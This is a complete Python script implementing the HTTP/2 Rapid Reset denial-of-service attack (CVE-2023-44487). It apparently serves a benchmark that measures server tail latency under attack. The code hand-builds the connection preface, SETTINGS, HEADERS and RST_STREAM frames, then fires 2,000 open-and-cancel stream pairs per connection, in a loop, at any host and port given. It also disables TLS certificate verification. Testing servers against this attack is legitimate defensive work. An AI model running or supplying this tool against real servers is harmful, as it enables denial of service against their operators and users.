#!/usr/bin/env python3
"""A rapid-reset attacker (CVE-2023-44487) for scripts/h2_reset_p99.sh.

    h2_reset_p99.py HOST PORT SECONDS [handshakes]

Over TLS with ALPN h2, connection after connection: the preface, SETTINGS,
then 2,000 streams each opened (HEADERS, GET /index.html) and reset at once
(RST_STREAM CANCEL), sent as fast as the socket takes them, until the server
closes the connection (GOAWAY ENHANCE_YOUR_CALM) or sends nothing for 5 s;
for SECONDS in all.
Prints the connections made and the GOAWAYs seen. With `handshakes`, the
control: each connection sends the preface and SETTINGS only, then closes
(the TLS handshakes alone, at the rate the attack makes them).
"""
import socket
import ssl
import struct
import sys
import time


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def batch(pairs):
    # :method GET, :scheme https, :path /index.html, :authority (literal, indexed name 1)
    block = b"\x82\x87\x85" + b"\x41\x09localhost"
    out = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", frame(4, 0, 0)]
    for i in range(pairs):
        sid = 1 + 2 * i
        out.append(frame(1, 0x5, sid, block))
        out.append(frame(3, 0, sid, struct.pack(">I", 8)))
    return b"".join(out)


def main():
    host, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    data = batch(2000)
    only_handshakes = sys.argv[4:] == ["handshakes"]
    if only_handshakes:
        data = batch(0)
    end = time.monotonic() + seconds
    connections = goaways = 0
    while time.monotonic() < end:
        try:
            with socket.create_connection((host, port), timeout=5) as raw:
                with ctx.wrap_socket(raw, server_hostname="localhost") as s:
                    connections += 1
                    try:
                        s.sendall(data)
                    except OSError:
                        pass
                    if only_handshakes:
                        continue
                    got = b""
                    while time.monotonic() < end:
                        chunk = s.recv(65536)
                        if not chunk:
                            break
                        got += chunk
                        # GOAWAY's type byte at a frame boundary is enough here.
                        if b"\x07\x00\x00\x00\x00\x00" in got:
                            goaways += 1
                            break
        except (OSError, ssl.SSLError):
            pass
    print(f"attacker: {connections} connections, {goaways} GOAWAYs in {seconds:.0f} s")


if __name__ == "__main__":
    main()
